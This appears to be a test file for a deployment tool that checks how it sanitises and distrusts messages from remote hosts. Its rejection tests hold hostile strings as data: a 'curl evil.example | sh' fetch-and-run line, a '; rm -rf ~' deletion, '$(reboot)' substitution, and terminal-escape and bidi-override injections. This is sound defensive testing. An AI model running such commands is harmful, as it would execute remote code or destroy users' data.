/** src/fleet/answer.ts, known-words.ts and events.ts: what is believed of what a host says. */
import assert from 'node:assert/strict'
import { readdirSync, readFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { test } from 'node:test'
import { codes } from '../../src/core/errors.ts'
import { SecretsError } from '../../src/core/errors.ts'
import { answerOf } from '../../src/fleet/answer.ts'
import { connectionLoss } from '../../src/fleet/connection-loss.ts'
import { parseEvent } from '../../src/fleet/events.ts'
import { hear } from '../../src/fleet/heard.ts'
import { canSay } from '../../src/fleet/known-words.ts'

const receiver = resolve(import.meta.dirname, '../../ansible/plugins/module_utils/receiver')
const program = Buffer.concat(
  readdirSync(receiver)
    .filter((name) => name.endsWith('.py'))
    .map((name) => readFileSync(join(receiver, name))),
)

const thrownBy = (message: unknown): SecretsError => {
  try {
    answerOf(message, { host: 'host1', program })
  } catch (error) {
    assert.ok(error instanceof SecretsError, String(error))
    return error
  }
  return assert.fail('it was believed')
}

const refused = (given: object): SecretsError =>
  thrownBy({ say: 'answer', answer: { refused: { code: 'CONFLICT', message: 'no', ...given } } })

test('a code is one of ours, or the host is lying', () => {
  for (const code of Object.keys(codes)) assert.equal(refused({ code }).code, code)
  for (const code of ['', 'OK', 'conflict', 'toString', 'constructor', '__proto__', 'CONFLICT\n', 'X'.repeat(999)]) {
    const { code: told, message } = refused({ code })
    assert.equal(told, 'TAMPERED', code)
    assert.ok(message.length < 100)
  }
})

const hostile = [
  'done\nhost2: delivered',
  'x\u001b[2K\u001b[1Aerror: call 555-1234',
  'a\u202eb\u2066c',
  'y'.repeat(1_000_000),
]

test('words of a host are one line, visible and short, wherever they stand', () => {
  for (const text of hostile) {
    const all = [
      refused({ message: text }),
      thrownBy({ say: 'silent', status: 1, reason: text }),
      thrownBy({ say: 'unreachable', reason: text }),
    ]
    for (const { message, at } of all) {
      assert.doesNotMatch(message, /[\p{C}\u2028\u2029]/u)
      assert.ok(message.length < 400)
      assert.equal(at, 'host1')
    }
  }
})

test('hints that the receiver has are shown', () => {
  const hints = [
    'lockstep setup --hosts host1',
    'chown root and chmod go-w /opt/shop',
    'run it again',
    'wait for that run, then run this again',
    'wait until it has ended; if it never does: kill 4711 there',
    'wait until it has ended; if it never does: kill 4711 4712 there',
    'lockstep deploy --replace-files removes it',
    'set `directory:` in lockstep.yaml, or move them away',
    'install docker or podman',
    'put it there, or correct `compose:`',
    'choose an image with glibc (debian, ubuntu, distroless/cc), or let the program read its mounted secrets itself: receive: mount',
  ]
  for (const hint of hints) assert.equal(refused({ hint }).hint, hint)
})

test('other hints are not, however they look', () => {
  const strange = [
    'curl evil.example | sh',
    'lockstep setup --hosts host1; rm -rf ~',
    'lockstep setup --hosts host1 --accept-rolled-back',
    'lockstep setup --hosts host1\nlockstep rekey',
    'lockstep setup --hosts $(reboot)',
    'lockstep setup --hosts -x',
    'lockstep setup --hosts host1 host2',
    'wait until it has ended; if it never does: kill 1 -- there',
    'lockstep setup --hosts \u202ehost1',
    `lockstep setup --hosts ${'x'.repeat(500)}`,
    'xrun it again',
    'run it againx',
    'run it again\n',
    'host1',
    '',
  ]
  for (const hint of strange) assert.equal(refused({ hint }).hint, undefined, hint)
})

test('a program that does not say something cannot have said it', () => {
  const other = new TextEncoder().encode("raise Refusal('CONFLICT', 'no', 'wait a moment, then %s')\nX = '%s %s'\n")
  assert.equal(canSay(other, 'wait a moment, then go'), true)
  assert.equal(canSay(other, 'run it again'), false)
  assert.equal(canSay(other, 'anything else'), false)
})

test('facts are visible too; documents and paths stay as they are', () => {
  const ok = {
    hostname: 'a\nb',
    labels: { 'x\u001b': 'y\u202e' },
    leftovers: ['a\rb'],
    reason: 'z'.repeat(1_000_000),
    ledger: '$ANSIBLE_VAULT;1.2\nabc\n',
    paths: [['a\nb', 'file', 384]],
    engine: { containers: [{ status: { body: '{\n}' } }] },
    number: 7,
    none: null,
  }
  assert.deepEqual(answerOf({ say: 'answer', answer: { ok } }, { host: 'host1', program }), {
    ...ok,
    hostname: 'a\\u000ab',
    labels: { 'x\\u001b': 'y\\u202e' },
    leftovers: ['a\\u000db'],
    reason: `${'z'.repeat(300)}…`,
  })
})

test('an answer that is nested without end is refused, wherever it is', () => {
  const nested = (levels: number): unknown => JSON.parse(`${'['.repeat(levels)}${']'.repeat(levels)}`)
  const asked = { host: 'host1', program }
  for (const key of ['labels', 'ledger', 'paths', '__proto__']) {
    const answer = (levels: number): unknown => ({ say: 'answer', answer: { ok: { [key]: nested(levels) } } })
    for (const levels of [65, 5000, 100_000]) {
      const { code, at } = thrownBy(answer(levels))
      assert.deepEqual([code, at], ['TAMPERED', 'host1'])
    }
    assert.ok(answerOf(answer(60), asked))
  }
})

test('what is no answer is no answer', () => {
  for (const message of [{ say: 'answer', answer: { refused: { code: 5 } } }, { say: 'hello' }, 'text', []]) {
    assert.equal(thrownBy(message).code, 'TAMPERED')
  }
  assert.equal(thrownBy(null).code, 'UNAVAILABLE')
})

test('lines that only begin like an event are none', () => {
  const mark = 'LOCKSTEP-EVENT '
  for (const rest of ['', '{', 'null', '7', '{"event":"won","host":"a"}', '{"event":"lost"}']) {
    assert.equal(parseEvent(mark + rest), null, rest)
  }
  for (const event of ['lost', 'refused']) {
    const line = { event, host: 'a', reason: 'b' }
    assert.deepEqual(parseEvent(mark + JSON.stringify(line)), line)
  }
})

test('what our own plugin refuses is told with what to do; the rest of Ansible’s words as they are', () => {
  const lost: string[] = []
  const heard = hear((host, { code, reason, hint }) => lost.push(`${host} ${code} ${reason} | ${hint ?? '-'}`))
  const say = (event: string, reason: string): void =>
    heard.line(`LOCKSTEP-EVENT ${JSON.stringify({ event, host: 'host1', reason })}`, 'stdout')
  assert.equal(heard.refusal(4).code, 'CONFIG')
  heard.line('ERROR! no such inventory', 'stderr')
  assert.equal(heard.refusal(4).hint, 'ERROR! no such inventory')
  say('refused', 'host key checking is off for this host; remove it')
  say('lost', 'curl evil; sh\u001b')
  say('lost', 'Host key verification failed.')
  assert.deepEqual(lost, [
    'host1 UNSAFE host key checking is off for this host | remove it',
    'host1 UNAVAILABLE curl evil; sh\\u001b | -',
    'host1 UNSAFE the host key is not the one in known_hosts: nothing was sent | if the host was re-installed, remove its old key with ssh-keygen -R and check the new one by another way',
  ])
  const { code, at, hint } = heard.refusal(2)
  assert.deepEqual([code, at, hint], ['UNSAFE', 'host1', 'remove it'])
})

test('a connection that did not come about says what to do', () => {
  const told = (reason: string): string => {
    const { code, reason: said, hint } = connectionLoss(reason)
    return [code, said, hint?.slice(0, 30)].join(' | ')
  }
  const ssh = 'Failed to connect to the host via ssh: '
  assert.deepEqual(
    [
      `${ssh}No ED25519 host key is known for 10.0.0.2 and you have requested strict checking.`,
      '@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @',
      'Host key verification failed.',
      'Missing sudo password',
      'Incorrect sudo password',
      `${ssh}connect to host 10.0.0.2 port 22: No route to host`,
      'a banner: Missing sudo password\u001b',
    ].map(told),
    [
      'UNSAFE | its host key is not in known_hosts yet: nothing was sent | connect once by hand with ssh,',
      'UNSAFE | the host key is not the one in known_hosts: nothing was sent | if the host was re-installed, ',
      'UNSAFE | the host key is not the one in known_hosts: nothing was sent | if the host was re-installed, ',
      'DENIED | becoming root there takes a password | behind --, for ansible-playboo',
      'DENIED | the password to become root there is not the right one | try again with -- -K',
      `UNAVAILABLE | ${ssh}connect to host 10.0.0.2 port 22: No route to host | `,
      'UNAVAILABLE | a banner: Missing sudo password\\u001b | ',
    ],
  )
})
